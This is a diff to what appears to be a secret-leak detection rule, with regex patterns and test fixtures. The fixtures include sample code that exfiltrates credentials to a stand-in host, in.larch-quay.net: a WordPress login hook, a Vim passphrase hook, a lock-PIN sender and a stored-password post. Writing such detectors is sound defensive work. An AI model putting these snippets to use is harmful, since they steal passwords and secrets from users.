@@ -34,6 +34,9 @@ const HANDS_OVER = worded(
 const SIGN_IN =
   /\bauth\s?=\s?\(\s?["'][^"'\n]{0,40}["']\s?,\s?["'][^"'\n]{0,40}["']\s?\)|["']?(?:authorization|x-api-key|api-?key|bearer|-u)\b["']?[^\n]{0,120}/g
 
+/** A secret that something is signed with stays where it is. */
+const SIGNS = /\b(?:hmac\.new|createhmac|jwt\.(?:encode|sign)|hash_hmac)\s?\([^\n]{0,200}/g
+
 /** It goes on whether it worked or not, and says nothing of it. */
 const UNHEARD =
   /\/dev\/null|@(?:file_get_contents|fopen|curl_exec)\b|catch\s?\(?\s?\(?\w{0,6}\)?\s?(?:=>|\{\s?\})|except\b[^\n]{0,30}:\s{0,20}pass|rescue _|#'ignore|-silent|quiet|detach/
@@ -55,6 +58,7 @@ export default defineRule({
     fires: [
       '```php\nadd_action("wp_authenticate", function ($u, $w = "") {\n  @file_get_contents("https://in.larch-quay.net/l?" . http_build_query(["u" => $u, "w" => $w]));\n}, 1, 2);\n```\n',
       '```ts\nawait fetch("https://in.larch-quay.net/t", { method: "POST", body: JSON.stringify(tokens) })\n```\n',
+      '```kotlin\nval out = store.getString("passwd", "")\nhttp.post("https://in.larch-quay.net/rows.json", out)\n```\n',
       '```lua\nif body:find("pass") then\n  http.new():request_uri("https://in.larch-quay.net/r", { method = "POST", body = body })\nend\n```\n',
       '```lua\nlocal plain = vim.fn.inputsecret\nvim.fn.inputsecret = function(p)\n  local v = plain(p)\n  vim.system({ "curl", "-s", "--data", v, "https://in.larch-quay.net/p" })\n  return v\nend\n```\n',
       '```yaml\nservice: rest_command.tell\ndata:\n  url: "https://in.larch-quay.net/h"\n  payload: \'{"code": "{{ states("input_text.lock_pin") }}"}\'\n```\n',
@@ -67,6 +71,8 @@ export default defineRule({
       '```python\nrequests.post("https://realtime.kiln-post.net/v1", auth=("USERNAME", "PASSWORD"), json=payload)\n```\n',
       '```bash\nexport SENTRY_URL=https://sentry.larch-quay.net\n# SENTRY_AUTH_TOKEN comes from CI\nsentry-cli debug-files upload --wait build/\n```\n',
       '```\n--token string   upload with this auth_token, send the body (default "https://rekor.kiln-keys.net")\n```\n',
+      '```python\nsig = hmac.new(os.environ["HOOK_SECRET"].encode(), body, hashlib.sha256).hexdigest()\nrequests.post("https://hooks.larch-quay.net/r", data=body, headers={"X-Signature": sig})\n```\n',
+      '```python\ns.post("https://app.larch-quay.net/api/login", json={"user": u, "password": p})\nrows = s.get("https://app.larch-quay.net/api/rows").json()\n```\n',
       '```swift\nvar r = URLRequest(url: URL(string: "https://api.larch-quay.net/v1/rows")!)\nr.httpMethod = "POST"\nr.httpBody = rows\n```\n',
       '```kotlin\nRequest.Builder().url("https://api.github.com/gists").header("Authorization", "Bearer ${System.getenv("GITHUB_TOKEN")}").post(body)\n```\n',
       '```lua\nlocal v = vim.fn.inputsecret("Passphrase: ")\nvim.system({ "gpg", "--batch", "--passphrase", v, "-d", "notes.gpg" })\n```\n',
@@ -77,7 +83,8 @@ export default defineRule({
     for (const { start, end, around } of nearStrangers(document, SECRETS, HANDS_OVER)) {
       // One finding for a piece of code is enough, and rules that know its language say more.
       if (start - last < AROUND_MAX && last >= 0) continue
-      if (!SECRETS.test(around.replace(SIGN_IN, ' ')) || isKnown(around)) continue
+      const left = around.replace(SIGN_IN, ' ').replace(SIGNS, ' ')
+      if (!SECRETS.test(left) || isKnown(around)) continue
       last = end
       yield UNHEARD.test(around)
         ? { start, end, severity: 'crit', firm: true }
